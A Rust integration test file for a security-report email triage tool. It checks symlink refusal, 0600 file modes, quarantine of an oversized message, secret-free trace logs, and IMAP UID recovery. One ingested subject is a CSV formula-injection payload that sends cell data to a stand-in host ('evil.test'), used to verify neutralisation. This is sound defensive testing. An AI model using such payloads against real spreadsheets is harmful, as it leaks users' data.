//! Hardening of issue 16 (findings 6, 7, 9, 11, 12, 13 in part), played
//! against the real binary and, where mail is involved, the real Dovecot +
//! Postfix of `scripts/mailstack.sh`:
//!
//! * output files (`reports export --output`, `security-txt --output`,
//!   `backup`) refuse a symlinked destination (dangling too) and are 0600;
//! * a formula subject is neutralised in the CSV export;
//! * a 500 MB message (a sparse file in the Maildir) is quarantined with
//!   only its headers fetched; the daemon's peak RSS is printed;
//! * a trace-level daemon log holds neither password nor report body;
//! * UIDs on the "listed but not returned" record are fetched next pass.

mod common;

use std::io::{Seek, SeekFrom, Write};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use common::*;

/// The shipped example config with its secrets and templates, store in `dir`.
fn offline_config(dir: &Path) -> PathBuf {
    let example =
        std::fs::read_to_string(format!("{REPO}/config/hexon-triage.example.toml")).unwrap();
    let text = example
        .replace("\"secrets/", &format!("\"{REPO}/config/secrets/"))
        .replace(
            "template_dir = \"templates\"",
            &format!("template_dir = \"{REPO}/config/templates\""),
        )
        .replace(
            "path = \"/var/lib/hexon-triage/triage.db\"",
            "path = \"triage.db\"",
        );
    let config = dir.join("hexon-triage.toml");
    std::fs::write(&config, text).unwrap();
    config
}

fn run(config: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .arg("--config")
        .arg(config)
        .args(args)
        .env_remove("HEXON_TRIAGE_DATABASE")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

#[test]
fn output_files_are_0600_and_never_written_through_a_symlink() {
    let dir = tempfile::tempdir().unwrap();
    let config = offline_config(dir.path());
    let mail = dir.path().join("r.eml");
    std::fs::write(
        &mail,
        report_mail(
            "eve@researcher.test",
            "security@hexon.io",
            "=HYPERLINK(\"https://evil.test/?\"&A1,\"click\")",
            "Stored XSS in the admin CLI output. Steps: 1. run it 2. see.",
            "formula-1@researcher.test",
            "",
        ),
    )
    .unwrap();
    let out = run(&config, &["ingest", "--no-ack", mail.to_str().unwrap()]);
    assert!(out.status.success(), "ingest: {}", text(&out));

    // Finding 11: the formula subject is neutralised.
    let csv = dir.path().join("export.csv");
    let out = run(
        &config,
        &[
            "reports",
            "export",
            "--format",
            "csv",
            "--output",
            csv.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "export: {}", text(&out));
    let written = std::fs::read_to_string(&csv).unwrap();
    assert!(
        written.contains("'=HYPERLINK("),
        "not neutralised:\n{written}"
    );
    assert!(
        !written.contains(",=HYPERLINK("),
        "formula cell left:\n{written}"
    );

    // Finding 6: created files are 0600 (the test runs with the usual umask 022).
    let backup = dir.path().join("copy.db");
    let out = run(&config, &["backup", backup.to_str().unwrap()]);
    assert!(out.status.success(), "backup: {}", text(&out));
    let security_txt = dir.path().join("security.txt");
    let sec = run(
        &config,
        &["security-txt", "--output", security_txt.to_str().unwrap()],
    );
    let mut created = vec![csv.clone(), backup.clone(), dir.path().join("triage.db")];
    if sec.status.success() {
        created.push(security_txt.clone());
    }
    for path in &created {
        assert_eq!(mode(path), 0o600, "{} is {:o}", path.display(), mode(path));
    }
    println!(
        "created files 0600: {} (security-txt: {})",
        created.len(),
        if sec.status.success() {
            "written"
        } else {
            "not configured in the example"
        }
    );

    // Symlinks at the destination, live and dangling, are refused.
    let victim = dir.path().join("victim");
    std::fs::write(&victim, b"keep me").unwrap();
    let live = dir.path().join("live-link");
    symlink(&victim, &live).unwrap();
    let nowhere = dir.path().join("nowhere");
    let dangling = dir.path().join("dangling-link");
    symlink(&nowhere, &dangling).unwrap();
    let mut refused = 0;
    for link in [&live, &dangling] {
        let l = link.to_str().unwrap();
        let mut commands: Vec<Vec<&str>> = vec![
            vec!["reports", "export", "--format", "csv", "--output", l],
            vec!["reports", "export", "--format", "json", "--output", l],
            vec!["backup", l],
        ];
        if sec.status.success() {
            commands.push(vec!["security-txt", "--output", l]);
        }
        for args in commands {
            let out = run(&config, &args);
            assert_eq!(out.status.code(), Some(2), "{args:?}: {}", text(&out));
            assert!(
                text(&out).contains("symbolic link"),
                "{args:?}: {}",
                text(&out)
            );
            refused += 1;
        }
    }
    assert_eq!(std::fs::read(&victim).unwrap(), b"keep me");
    assert!(!nowhere.exists(), "a dangling link was followed");
    let leftovers: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.contains(".tmp-"))
        .collect();
    assert!(leftovers.is_empty(), "temp files left: {leftovers:?}");
    println!("symlinked destinations refused: {refused}");
}

/// The Maildir of `user` on the stack (it exists once mail was delivered).
fn maildir(user: &str) -> PathBuf {
    stack().dir.join("mail").join(user).join("Maildir")
}

/// Write a sparse message of `size` bytes into `user`'s Maildir/new (the
/// hole reads as NUL bytes; nothing of it is on disk), owned like the rest.
fn sparse_message(user: &str, headers: &str, size: u64) {
    let dir = maildir(user);
    let new = dir.join("new");
    let meta = std::fs::metadata(&new).expect("Maildir/new exists after a delivery");
    let (uid, gid) = (
        std::os::unix::fs::MetadataExt::uid(&meta),
        std::os::unix::fs::MetadataExt::gid(&meta),
    );
    let lines = headers.matches('\n').count() as u64 + 1;
    let name = format!(
        "{}.M1P{}.hardening,S={size},W={}",
        chrono_secs(),
        std::process::id(),
        size + lines
    );
    let tmp = dir.join("tmp").join(&name);
    let mut file = std::fs::File::create(&tmp).unwrap();
    file.write_all(headers.as_bytes()).unwrap();
    file.seek(SeekFrom::Start(size - 1)).unwrap();
    file.write_all(b"\n").unwrap();
    drop(file);
    assert_eq!(std::fs::metadata(&tmp).unwrap().len(), size);
    std::os::unix::fs::chown(&tmp, Some(uid), Some(gid)).unwrap();
    std::fs::rename(&tmp, new.join(&name)).unwrap();
}

fn chrono_secs() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

/// VmHWM (peak resident set) of a running process, in kB.
fn peak_rss_kb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .expect("VmHWM in /proc/PID/status")
}

#[test]
fn a_500_mb_message_is_quarantined_without_fetching_its_body() {
    let setup = setup("oversize");
    let u = &setup.users;
    // A normal report first: it creates the Maildir and proves intake works.
    send_raw(
        &u.researcher,
        &u.security,
        &report_mail(
            &u.researcher,
            &u.security,
            "Small report",
            "SQL injection in hexon.io search. Steps: 1. open 2. inject.",
            "small-1@researcher.test",
            "",
        ),
    );
    wait_messages(
        &u.security,
        &u.password,
        "INBOX",
        1,
        Duration::from_secs(30),
    );
    const SIZE: u64 = 500 * 1024 * 1024;
    let headers = format!(
        "From: Alice <{r}>\nTo: {s}\nSubject: Huge report\nMessage-ID: <huge-1@researcher.test>\nDate: Tue, 24 Nov 2026 10:00:00 +0000\nContent-Type: text/plain\n\nRCE in the gateway, details below.\n",
        r = u.researcher,
        s = u.security
    );
    sparse_message(&u.security, &headers, SIZE);

    let daemon = Daemon::start(&setup);
    let pid = daemon.child.id();
    let quarantined = wait_for(
        "the huge message quarantined",
        Duration::from_secs(120),
        || {
            let out = cli(&setup, &["quarantine", "--json"]);
            let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).ok()?;
            rows.into_iter().find(|r| {
                r["message_id"]
                    .as_str()
                    .is_some_and(|m| m.contains("huge-1@researcher.test"))
            })
        },
    );
    let peak_kb = peak_rss_kb(pid);
    let log = daemon.log_text();
    daemon.stop();
    let reason = quarantined["reason"].as_str().unwrap_or_default();
    // RFC822.SIZE is the size with CRLF line ends: a few bytes over the file's.
    let reported: u64 = reason
        .split("message is ")
        .nth(1)
        .and_then(|r| r.split_whitespace().next()?.parse().ok())
        .unwrap_or_else(|| panic!("no size in: {reason}"));
    assert!(
        reason.starts_with("too large") && reported >= SIZE,
        "{reason}"
    );
    assert!(reason.contains("headers"), "{reason}");
    let store = hexon_triage::store::Store::open(&setup.database()).unwrap();
    let raw = store
        .raw_message(quarantined["id"].as_i64().unwrap())
        .unwrap()
        .expect("headers kept");
    assert!(
        raw.len() < 4096,
        "stored {} bytes, expected the headers only",
        raw.len()
    );
    assert!(String::from_utf8_lossy(&raw).contains("Subject: Huge report"));
    assert!(log.contains("headers fetched, body not"), "{log}");
    // The small report went through as usual.
    assert_eq!(report_count(&setup), 1);
    // Marked on the server like any committed message.
    let inbox = imap_messages_flags(&u.security, &u.password);
    assert_eq!(
        inbox
            .iter()
            .filter(|f| f.contains("Triaged") && !f.contains("HexonReply"))
            .count(),
        2,
        "{inbox:?}"
    );
    println!(
        "500 MB message: quarantined, {} header bytes kept; daemon peak RSS (VmHWM) {} MB",
        raw.len(),
        peak_kb / 1024
    );
    assert!(
        peak_kb < 200 * 1024,
        "peak RSS {peak_kb} kB: was the body fetched?"
    );
}

/// FLAGS of every INBOX message (without fetching bodies).
fn imap_messages_flags(user: &str, password: &str) -> Vec<String> {
    let config = imap_config_for(user, password);
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            use futures::TryStreamExt;
            let mut session = hexon_triage::source::imap::connect(&config).await.unwrap();
            session.select("INBOX").await.unwrap();
            let fetched: Vec<_> = session
                .uid_fetch("1:*", "(UID FLAGS)")
                .await
                .unwrap()
                .try_collect()
                .await
                .unwrap();
            let flags = fetched
                .iter()
                .map(|f| format!("{:?}", f.flags().collect::<Vec<_>>()))
                .collect();
            let _ = session.logout().await;
            flags
        })
}

fn imap_config_for(user: &str, password: &str) -> hexon_triage::config::ImapConfig {
    let s = stack();
    hexon_triage::config::ImapConfig {
        host: "127.0.0.1".into(),
        port: s.port("IMAPS_PORT"),
        tls: hexon_triage::config::TlsMode::Implicit,
        ca_file: Some(s.ca_file()),
        user: user.into(),
        password: hexon_triage::config::Secret::new(password),
        mailbox: "INBOX".into(),
        poll_interval: Duration::from_secs(60),
        idle: false,
        mark: hexon_triage::config::MarkMode::Keyword,
        keyword: "$Triaged".into(),
        move_to: "Triaged".into(),
        quarantine_folder: None,
        timeout: Duration::from_secs(10),
        fetch_batch: 100,
        authserv_id: None,
        tls_pin: None,
    }
}

#[test]
fn a_trace_level_log_holds_no_password_and_no_body() {
    let setup = setup("tracelog");
    let u = &setup.users;
    const CANARY: &str = "canary-7f3a9c-body-marker";
    let daemon = Daemon::start_with_env(&setup, &[("HEXON_TRIAGE_LOG", "trace")]);
    send_raw(
        &u.researcher,
        &u.security,
        &report_mail(
            &u.researcher,
            &u.security,
            "XSS in hexon.io",
            &format!("Stored XSS on hexon.io/profile. Steps: 1. set name to {CANARY} 2. view."),
            "trace-1@researcher.test",
            "",
        ),
    );
    // The ack went out: IMAP fetch, SMTP AUTH and the APPEND of the copy all ran.
    wait_messages(
        &u.researcher,
        &u.password,
        "INBOX",
        1,
        Duration::from_secs(60),
    );
    wait_messages(
        &u.security,
        &u.password,
        "INBOX",
        2,
        Duration::from_secs(60),
    );
    let log = daemon.log_text();
    daemon.stop();
    let trace_lines = log.lines().filter(|l| l.contains("TRACE")).count();
    assert!(
        trace_lines > 0,
        "no TRACE line: is the level applied?\n{log}"
    );
    let plain_auth = base64_plain(&u.security, &u.password);
    let mut hits = 0;
    for needle in [u.password.as_str(), CANARY, plain_auth.as_str()] {
        let n = log.matches(needle).count();
        assert_eq!(n, 0, "`{needle}` in the trace log");
        hits += n;
    }
    let protocol_lines = log
        .lines()
        .filter(|l| l.contains("TRACE") || l.contains("DEBUG"))
        .filter(|l| {
            ["async_imap", "imap_proto", "lettre"]
                .iter()
                .any(|c| l.contains(c))
        })
        .count();
    assert_eq!(protocol_lines, 0, "protocol crates logged below info");
    println!(
        "trace log: {} lines ({trace_lines} TRACE); password/canary/AUTH PLAIN hits: {hits}",
        log.lines().count()
    );
}

/// The AUTH PLAIN token for `user` / `password`.
fn base64_plain(user: &str, password: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(format!("\0{user}\0{password}"))
}

#[test]
fn uids_on_the_unreturned_record_are_fetched_next_pass() {
    let setup = setup("unreturned");
    let u = &setup.users;
    send_raw(
        &u.researcher,
        &u.security,
        &report_mail(
            &u.researcher,
            &u.security,
            "IDOR in the admin CLI",
            "The admin CLI shows other tenants. Steps: 1. login 2. list.",
            "unreturned-1@researcher.test",
            "",
        ),
    );
    let inbox = wait_messages(
        &u.security,
        &u.password,
        "INBOX",
        1,
        Duration::from_secs(30),
    );
    let uid = inbox[0].uid;
    let uidvalidity = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            let config = imap_config_for(&u.security, &u.password);
            let mut session = hexon_triage::source::imap::connect(&config).await.unwrap();
            let selected =
                hexon_triage::source::imap::select(&mut session, "INBOX", config.timeout)
                    .await
                    .unwrap();
            hexon_triage::source::imap::logout(session, config.timeout).await;
            selected.uidvalidity
        });
    // As an earlier pass leaves it: the cursor past the UID, the UID on record
    // (plus one the server no longer lists).
    {
        let mut store = hexon_triage::store::Store::open(&setup.database()).unwrap();
        store.advance_cursor("INBOX", uidvalidity, uid + 5).unwrap();
        store
            .set_state(
                "imap.unreturned.INBOX",
                &format!("{uidvalidity}:{uid},{}", uid + 3),
            )
            .unwrap();
    }
    assert_eq!(report_count(&setup), 0);
    let out = cli(&setup, &["run", "--once"]);
    assert!(out.status.success(), "run --once: {}", text(&out));
    assert_eq!(
        report_count(&setup),
        1,
        "the recorded UID was not fetched again"
    );
    let store = hexon_triage::store::Store::open(&setup.database()).unwrap();
    let left = store
        .state("imap.unreturned.INBOX")
        .unwrap()
        .unwrap_or_default();
    assert_eq!(left, "", "record not cleared: {left}");
    println!("unreturned record: UID {uid} fetched and stored on the next pass; record cleared");
}
